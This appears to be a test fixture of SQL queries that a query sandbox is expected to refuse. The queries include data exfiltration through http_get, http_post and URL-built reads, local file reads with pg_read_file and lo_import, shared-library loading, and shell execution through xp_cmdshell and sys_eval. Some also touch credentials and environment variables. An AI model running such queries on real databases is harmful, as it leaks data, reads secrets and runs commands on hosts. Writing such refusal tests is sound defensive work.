-- refused: http csv
SELECT * FROM '{url}/x.csv'

-- refused: http parquet
SELECT * FROM read_parquet('{url}/x.parquet')

-- refused: http text
SELECT * FROM read_text('{url}/x')

-- refused: http in a CTE
WITH a AS (SELECT * FROM read_csv('{url}/x.csv')) SELECT * FROM a

-- refused: https
SELECT * FROM 'https://127.0.0.1/x.json'

-- refused: s3
SELECT * FROM 's3://bucket/x.parquet'

-- refused: gcs
SELECT * FROM 'gs://bucket/x.parquet'

-- refused: azure
SELECT * FROM 'az://bucket/x.parquet'

-- refused: hugging face
SELECT * FROM 'hf://datasets/a/b.parquet'

-- refused: exfiltration by a name
SELECT * FROM read_csv('{url}/' || (SELECT name FROM mountain LIMIT 1))

-- refused: exfiltration by http_get
SELECT http_get('{url}/' || name) FROM mountain

-- refused: exfiltration by http_post
SELECT http_post('{url}', name) FROM mountain

-- refused: attach over http
SELECT 1; ATTACH '{url}/x.duckdb'

-- refused: read_duckdb over http
SELECT * FROM read_duckdb('{url}/x.duckdb')

-- refused: sniff over http
SELECT * FROM sniff_csv('{url}/x.csv')

-- refused: glob over http
SELECT * FROM glob('{url}/*')

-- refused: http as an identifier
SELECT * FROM "{url}/x.csv"

-- refused: extension load by a function
SELECT load_aws_credentials()

-- refused: which secret
SELECT * FROM which_secret('{url}', 'http')

-- refused: external resource
SELECT * FROM register_external_resource('x')

-- refused: network address
SELECT inet_server_addr()

-- refused: client address
SELECT inet_client_addr()

-- refused: notify
SELECT pg_notify('a', 'b')

-- refused: dblink
SELECT * FROM dblink('host=127.0.0.1', 'SELECT 1') AS t(a INT)

-- refused: lo_import
SELECT lo_import('{txt}')

-- refused: lo_export
SELECT lo_export(1, '{folder}/x')

-- refused: pg_read_file
SELECT pg_read_file('{txt}')

-- refused: pg_ls_dir
SELECT pg_ls_dir('{folder}')

-- refused: load_file
SELECT load_file('{txt}')

-- refused: load_extension
SELECT load_extension('{folder}/x.so')

-- refused: xp_cmdshell
EXEC xp_cmdshell 'dir'

-- refused: sys_eval
SELECT sys_eval('id')

-- refused: url functions
SELECT url_encode(getenv('{variable}'))
